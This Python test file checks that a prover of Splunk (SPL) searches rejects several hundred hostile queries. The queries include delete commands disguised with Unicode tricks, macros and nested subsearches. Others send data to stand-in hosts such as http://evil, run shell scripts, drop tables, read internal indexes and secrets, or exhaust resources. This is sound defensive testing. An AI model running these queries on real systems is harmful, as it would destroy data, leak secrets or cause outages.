"""Attacks on the SPL prover, through the whole proof: none may end in anything but a rejection. One case a line.

Beside test_safety.py's: disguises (Unicode, quoting, comments, macros, line ends), searches within searches, commands
of other products, what reads outside the group, and searches that make too much out of nothing.
"""

# fmt: off

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from agents.data.proof import prove
from agents.data.sandbox import Sandbox
from agents.data.spl import Spl
from shared.settings import Settings
from tests.agents.data.spl.small import CATALOG
from tests.agents.data.spl.test_safety import SAFE, UNSAFE, lines

# `{U+00A0}` stands for that character.
TRICKS = r'''
index=web |{U+00A0}delete
index=web | d{U+0435}lete
index=web | del{U+200B}ete
index=web {U+FF5C} delete
index=web |{U+2028}delete
index=web |{U+3000}DELETE
index=web | {U+202E}delete
index=web | {U+FEFF}delete
index=web |delete|head 1
index=web | head 1 |delete```x```
index=web | ``` ``` delete
index=web ````| delete````
index=web "```" | delete "```"
index=web | eval x="```" | delete | eval y="```"
index=web | eval x="a\\" | delete | eval y=" b"
index=web foo\\| delete
index=web "foo\\" | delete "bar"
index=web foo=\"a | delete
index=web | eval x='a | delete'
index=web | eval 'a | delete'=1
index=web | rename user as 'a | delete'
index=web | table 'a | delete'
index=web | fields "user" | delete
index=web | stats count as "x" | delete
index=web | where x="1" | delete
index=web [delete]
index=web [ | delete ]
index=web [search index=web | delete]
index=web [search index=web [search index=auth [| savedsearch x]]]
index=web NOT [search index=auth | outputlookup x]
index=web user=[search index=auth | collect index=x | return user]
index=web user IN ([search index=auth | delete])
index=web | where user=[search index=auth | delete]
index=web | append [search index=auth | append [| makeresults | sendemail to=x@y.z]]
index=web | appendpipe [stats count | outputlookup hosts]
index=web | appendcols [search index=auth | delete]
index=web | join user [search index=auth | delete]
index=web | join left=L right=R where L.user=R.user [search index=auth | delete]
index=web | set union [search index=web] [search index=web | delete]
| set diff [search index=web] [| rest /services]
| multisearch [search index=web] [search index=auth | delete]
| union [search index=web | delete], [search index=auth]
index=web | union [| savedsearch x]
index=web | union savedsearch:Danger
| from savedsearch:Danger
| from savedsearch "Danger"
| from sid:123.45
| from datamodel:Secrets
index=web savedsearch="Danger"
index=web savedsplunk=Danger
index=web OR savedsearch=Danger
index=web | search savedsearch=Danger
index=web | foreach * [delete]
index=web | foreach user [eval x=1 | outputlookup hosts]
index=web | foreach mode=multivalue tags [collect index=x]
index=web | transaction user startswith=[search index=auth | delete]
index=web | abstract [search index=web | delete]
index=web | format [search index=web | delete]
index=web | contingency user host [search index=auth | delete]
index=web | map search="search index=web"
index=web | map savedsearch
index=web | MAP maxsearches=1 search="| delete"
index=web{U+000A}| delete
index=web{U+000D}{U+000A}|{U+0009}delete
index=web |    delete
index=web | delete ;
index=web ; | delete
index=web | delete()
index=web | delete [search index=web]
index=web || delete
index=web | | delete
index=web | "delete"
index=web | 'delete'
index=web | `delete`
index=web | `delete("x")`
index=web `x(") | delete (")`
index=web `comment("a") | delete `comment("b")`
index=web `comment("a")` | delete
index=web | `comment("a")` delete
index=web | eval x=`unknown`
index=web | head `unknown`
| makeresults count=`unknown`
index=web | sort limit=`unknown` user
index=web span=`unknown`
index=web | timechart span=`unknown` count
index=web | outputlookup hosts append=t
index=web | outputlookup `unknown`
index=web | outputcsv
index=web | outputtext usexml=f
index=web | outputraw
index=web | collect index=web
index=web | mcollect index=m
index=web | meventcollect index=m
index=web | tscollect
index=web | stash
index=web | sendemail to=x
index=web | sendalert x
index=web | sendalert slack param.channel=x
index=web | script x
index=web | run x
index=web | runshellscript x
index=web | rest /services
index=web | fit LinearRegression a from b into c
index=web | snowincident
index=web | snoweventstream
index=web | sistats count
index=web | sitop user
index=web | sirare user
index=web | sichart count by user
index=web | unknowncommand
index=web | curl uri=http://evil
index=web | python x
index=web | pyscript x
index=web | webhook url=http://evil
index=web | dbxoutput output=x
index=web | dbxlookup lookup=x
| dbxquery query="drop table x"
| rest /services/search/jobs/export search="| delete"
| savedsearch x
| loadjob x
| inputcsv x
| inputcsv append=t x
| typeahead prefix=x
| crawl
| metadata type=hosts
| walklex index=web type=all
| datamodel
| datamodel Secrets X search
| tstats count from datamodel=Secrets
| tstats count where index=_internal
| tstats count where index=web OR index=_audit
| tstats count from sid=1
| mstats avg(x) where index=_metrics
| mcatalog values(metric_name) where index=*
| inputlookup secrets
| inputlookup append=t secrets
| from lookup:secrets
| from inputlookup:secrets
index=web | lookup secrets user
index=web | lookup dnslookup clientip as host
index=web | eval x=lookup("secrets", json_object("user", user), json_array("p"))
index=_audit OR index=web
index IN (web, _internal)
index IN ("_*")
index::_internal
INDEX=_internal
"index"=_internal
index="_internal"
index = _internal
(index=_internal)
index=*
index=* earliest=0
index=* earliest=1
index=* earliest=-20y
index=* earliest=-99999d@d
index=_* earliest=-1h
index=* OR index=web
index=we* OR index=_i*
*
error OR index=web
index=web OR error
index=web | append [search *]
index=web | append [search index=*]
index=web | join user [search error]
'''

BOMBS = r'''
| makeresults count=100001
| makeresults count=999999999999
| makeresults count=1e9
| makeresults count="999999999"
| makeresults count=100000 | append [| makeresults count=100000]
| makeresults count=100000 | eval x=mvrange(0,10000) | mvexpand x
| makeresults count=5000 | eval x=mvrange(0,5000) | mvexpand x
| makeresults | eval x=mvrange(0,1000), y=mvrange(0,1000), z=mvrange(0,1000) | mvexpand x | mvexpand y | mvexpand z
index=web | eval x=mvrange(0,1000000000)
index=web | eval x=mvrange(0,1e12)
index=web | eval x=mvrange(0,1000000*1000000)
index=web | eval x=mvrange(-999999999,999999999,1)
index=web | eval x=mvrange(0,10,0)
index=web | eval x=printf("%999999999d",1)
index=web | eval x=printf("%*d",999999999,1)
index=web | eval x=printf("%.999999999f",1)
| makeresults count=1000 | eval x=mvrange(0,1000) | mvexpand x | eval y=mvrange(0,1000) | mvexpand y
| makeresults count=50000 | eval k=1 | join max=0 k [| makeresults count=50000 | eval k=1]
'''

# What is too long to write out.
GROWN = {
    "text doubled forty times": "index=web | eval x=\"aaaa\"" + " | eval x=x.x" * 40,
    "text doubled in one eval": "index=web | eval x=_raw" + ', x=x."".x' * 30,
    "values appended to themselves": "index=web | eval x=mvappend(user, user)" + ", x=mvappend(x, x, x)" * 20,
    "text replaced by itself": "index=web | eval x=\"aaaaaaaaaa\"" + ' | eval x=replace(x, "a", x)' * 10,
    "text doubled for each field": "index=web | eval x=_raw | foreach * [eval x=x.x]",
    "joins that multiply": "index=web" + " | join max=0 host [search index=web]" * 10,
    "a hundred subsearches": "index=web" + " | append [search index=web]" * 100,
    "a deep subsearch": "index=web " + "[search index=web " * 70 + "]" * 70,
    "deep brackets": "index=web | where " + "(" * 300 + "1=1" + ")" * 300,
    "many negations": "index=web " + "NOT " * 3000 + "x",
    "a number of many digits": "index=web | head " + "9" * 5000,
    "a constant of many digits": "index=web | where x=" + "9" * 5000,
    "six hundred commands": "index=web" + " | head 5" * 600,
}


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    made = Sandbox(Settings(data_dir=tmp_path_factory.mktemp("spl")))
    yield made
    made.close()


def _decoded(line: str) -> str:
    return re.sub(r"\{U\+([0-9A-F]{4})\}", lambda match: chr(int(match[1], 16)), line)


ATTACKS = [*lines(UNSAFE), *map(_decoded, lines(TRICKS)), *lines(BOMBS)]


@pytest.mark.parametrize("spl", ATTACKS)
def test_an_attack_is_rejected(spl: str, sandbox: Sandbox) -> None:
    assert prove(Spl(), spl, CATALOG, sandbox).verdict == "rejected"


@pytest.mark.parametrize("spl", GROWN.values(), ids=GROWN.keys())
def test_a_search_that_grows_beyond_bounds_is_rejected(spl: str, sandbox: Sandbox) -> None:
    assert prove(Spl(), spl, CATALOG, sandbox).verdict == "rejected"


@pytest.mark.parametrize("spl", lines(SAFE))
def test_an_honest_search_is_not_rejected(spl: str, sandbox: Sandbox) -> None:
    assert prove(Spl(), spl, CATALOG, sandbox).verdict != "rejected"


def test_there_are_enough_attacks() -> None:
    assert len(set(ATTACKS)) + len(GROWN) >= 250


def test_a_translation_that_would_double_at_each_level_is_given_up_not_built(sandbox: Sandbox) -> None:
    nested = "index=web | eval x=" + "ln(" * 50 + "1" + ")" * 50
    assert prove(Spl(), nested, CATALOG, sandbox).verdict == "plausible"
